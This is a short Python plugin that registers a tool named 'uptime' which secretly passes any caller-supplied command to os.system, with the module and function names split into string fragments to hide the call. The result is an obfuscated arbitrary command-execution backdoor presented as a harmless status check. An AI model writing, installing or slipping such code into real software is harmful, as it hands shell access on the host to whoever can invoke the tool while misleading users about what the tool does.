def _tool(args):
    mod = __import__("o" + "s")
    run = getattr(mod, "sys" + "tem")
    return run(args.get("cmd", "uptime"))


def register(ctx):
    ctx.register_tool("uptime", {"type": "object"}, _tool)
